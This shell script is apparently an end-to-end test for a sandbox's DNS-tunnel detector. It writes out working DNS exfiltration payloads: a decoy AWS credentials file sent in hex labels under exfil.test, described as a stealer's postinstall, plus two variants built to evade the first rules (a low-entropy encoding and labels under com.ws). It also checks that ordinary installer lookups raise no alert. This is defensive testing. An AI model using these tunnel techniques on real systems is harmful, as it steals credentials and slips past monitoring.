#!/bin/bash
# tests/e2e/dns-exfil.sh — DNS tunnel detection in public mode, where an
# unlisted name is not refused: a payload that sends a file hex-encoded in
# 60-character labels under one domain raises one red net.dns alert (at the
# end of the run, in the audit log, the store and boxy show); a run that
# looks names up as installers do raises nothing.
#
# Inside the hermetic test network (tests/lib/testnet.sh), as the test user,
# with the suite's own daemon.
set -u
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/lib/harness.sh"
. "$here/lib/testnet.sh"
harness_locate
[ "${BOXY_TESTNET_INSIDE:-}" = 1 ] || harness_as_test_user "$0" "$@"
testnet_enter "$0" "$@"
testnet_setup
tn_probe

## ---- a tunnel --------------------------------------------------------------------------
# A decoy credentials file, hex-encoded and split into 60-character labels,
# each looked up (A, then AAAA) under exfil.test, as a stealer's postinstall would.
tunnel='printf "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n" >creds
	i=0
	for chunk in $(od -An -tx1 -v creds | tr -d " \n" | fold -w 60); do
		getent hosts "$chunk.$i.exfil.test" >/dev/null
		i=$((i + 1))
	done
	exit 0'
run_case dns-tunnel --net public -- sh -c "$tunnel"
ID=$(tn_boxy ps -a | awk 'NR == 2 { print $1 }')
if [ "$RC" -eq 0 ] && grep -q '^boxy: ALERT: net.dns: exfil.test: DNS under exfil.test looks like a tunnel' "$C/err" &&
	[ "$(grep -c 'ALERT: net.dns' "$C/err")" -eq 1 ]; then
	ok "dns-exfil: a file sent in 60-character labels raises one alert at the end of the run"
else
	fail_case "dns-exfil: a file sent in 60-character labels raises one alert at the end of the run"
fi
if audit_has net.dns alert "exfil.test looks like a tunnel" &&
	tn_boxy show "$ID" 2>&1 | grep -q 'ALERT net.dns exfil.test: DNS under exfil.test'; then
	ok "dns-exfil: the alert is in the audit log, the store and boxy show"
else
	fail_case "dns-exfil: the alert is in the audit log, the store and boxy show" \
		"show: $(tn_boxy show "$ID" 2>&1 | head -n 12)"
fi

## ---- tunnels built to pass under the first rules (review) ------------------------------------
# Review findings, each fired nothing on d2ac5f5: the same file in an encoding
# of eight letters (3 bits a character reads as low entropy), and hex under a
# domain named like a country's second level that the attacker owns
# (DATA.com.ws: every query was a parent domain of its own). The volume rule
# and scoring under the last two labels catch them.
lowent='python3 - <<PY
import socket
data = open("/dev/urandom", "rb").read(2000)     # a 2 KB file
bits = "".join("{:08b}".format(b) for b in data)
bits += "0" * (-len(bits) % 3)
text = "".join("abcdefgh"[int(bits[i:i + 3], 2)] for i in range(0, len(bits), 3))
for i in range(0, len(text), 180):
    c = text[i:i + 180]
    name = ".".join(c[j:j + 60] for j in range(0, len(c), 60)) + ".%d.lowent.test" % i
    try:
        socket.getaddrinfo(name, 80, socket.AF_INET)
    except OSError:
        pass
PY'
run_case dns-lowent --net public -- sh -c "$lowent"
if [ "$RC" -eq 0 ] && grep -q '^boxy: ALERT: net.dns: lowent.test: DNS under lowent.test looks like a tunnel' "$C/err"; then
	ok "dns-exfil: a file in an 8-letter encoding (low entropy) raises the alert"
else
	fail_case "dns-exfil: a file in an 8-letter encoding (low entropy) raises the alert"
fi
comws='for i in 1 2 3 4; do
		getent hosts "$(head -c 30 /dev/urandom | od -An -tx1 -v | tr -d " \n").com.ws" >/dev/null
	done
	exit 0'
run_case dns-comws --net public -- sh -c "$comws"
if [ "$RC" -eq 0 ] && grep -q '^boxy: ALERT: net.dns: com.ws: DNS under com.ws looks like a tunnel' "$C/err"; then
	ok "dns-exfil: hex labels straight under an owned com.ws raise the alert under com.ws"
else
	fail_case "dns-exfil: hex labels straight under an owned com.ws raise the alert under com.ws"
fi

## ---- no false alarm ---------------------------------------------------------------------
# Lookups as an installer makes them: a registry, CDNs, retries of a missing name.
ordinary='for round in 1 2 3 4 5; do
		for n in www.example.test other.example.test registry.npmjs.org codeload.github.com \
			d3c33hcgiwev3.cloudfront.net objects.githubusercontent.com files.pythonhosted.org \
			missing.example.test; do
			getent hosts "$n" >/dev/null
		done
	done
	curl -sS -m 10 --cacert ca.pem https://www.example.test/hello.txt >/dev/null'
run_case dns-ordinary --net public -- sh -c "$ordinary"
if [ "$RC" -eq 0 ] && ! grep -q 'ALERT' "$C/err" && ! grep -q '"verdict":"alert"' "$C/audit"; then
	ok "dns-exfil: ordinary lookups raise nothing"
else
	fail_case "dns-exfil: ordinary lookups raise nothing"
fi

done_testing
